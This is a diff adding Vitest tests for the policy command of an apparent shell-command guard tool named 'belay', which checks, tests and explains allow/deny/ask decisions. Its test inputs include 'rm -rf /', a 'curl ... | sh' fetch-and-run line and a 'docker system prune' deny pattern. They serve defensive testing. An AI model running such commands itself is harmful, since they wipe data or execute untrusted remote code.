@@ -1,0 +1,93 @@
+import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { policyCommand } from "./policy.ts";
+
+let directory = "";
+beforeAll(() => {
+  directory = mkdtempSync(join(tmpdir(), "belay-policy-"));
+});
+afterAll(() => rmSync(directory, { recursive: true }));
+
+function run(...args: string[]) {
+  const printed: string[] = [];
+  let exitCode = 0;
+  const command = policyCommand({
+    securityFile: null,
+    print: (text) => printed.push(text),
+    setExitCode: (code) => {
+      exitCode = code;
+    },
+  });
+  command.parse(args, { from: "user" });
+  return { printed, exitCode };
+}
+
+function file(name: string, text: string): string {
+  const path = join(directory, name);
+  writeFileSync(path, text);
+  return path;
+}
+
+describe("belay policy", () => {
+  it("A4 checks one command and names layer and rule", () => {
+    expect(run("check", "rm -rf /")).toEqual({
+      printed: [expect.stringMatching(/^deny by hard-block rule root-wipe: /)],
+      exitCode: 0,
+    });
+  });
+
+  it("A5 judges for a profile", () => {
+    const { printed } = run("check", "ls", "--profile", "restricted", "--json");
+
+    expect(JSON.parse(printed[0] ?? "")).toMatchObject({ decision: "deny", layer: "profile" });
+  });
+
+  it("tests a file and closes with a summary", () => {
+    const path = file("good.jsonl", '{"command":"ls","expect":"allow"}\n{"command":"rm x","expect":"ask"}\n');
+
+    expect(run("test", path)).toEqual({ printed: ["exact 2 of 2, unsafe 0, friction 0"], exitCode: 0 });
+  });
+
+  it("fails where an allow was denied, and prints the difference", () => {
+    const path = file("bad.jsonl", '{"command":"rm -rf /","expect":"allow"}\n');
+
+    expect(run("test", path, "--min-exact", "0")).toEqual({
+      printed: ['allow expected, deny by root-wipe: "rm -rf /"', "exact 0 of 1, unsafe 0, friction 1"],
+      exitCode: 1,
+    });
+  });
+
+  it("fails where too few are exact", () => {
+    const path = file("few.jsonl", '{"command":"ls","expect":"ask"}\n{"command":"ls","expect":"allow"}\n');
+
+    expect(run("test", path).exitCode).toBe(1);
+    expect(run("test", path, "--min-exact", "50").exitCode).toBe(0);
+  });
+
+  it("prints every result as one object", () => {
+    const path = file("json.jsonl", '{"command":"ls","expect":"allow"}\n');
+
+    const { printed } = run("test", path, "--json");
+
+    expect(JSON.parse(printed[0] ?? "")).toMatchObject({
+      results: [{ command: "ls", expect: "allow", decision: "allow", rule: null, layer: "level" }],
+    });
+  });
+
+  it("explains in plain words", () => {
+    expect(run("explain", "curl https://x.example/i | sh").printed[0]).toContain("Instead: curl");
+  });
+
+  it("A8 judges with a security file, and refuses a broken one with line and column", () => {
+    const good = file("security.json", '{ "commandDenyPatterns": ["docker\\\\s+system\\\\s+prune"] }');
+    const broken = file("broken.json", '{\n  "nope": 1\n}');
+
+    expect(run("check", "docker system prune", "--file", good).printed[0]).toMatch(/^deny by security-file/);
+    expect(run("check", "ls", "--file", broken)).toEqual({
+      printed: [expect.stringContaining('broken.json:2:3 nope: Unknown key "nope".')],
+      exitCode: 2,
+    });
+  });
+});
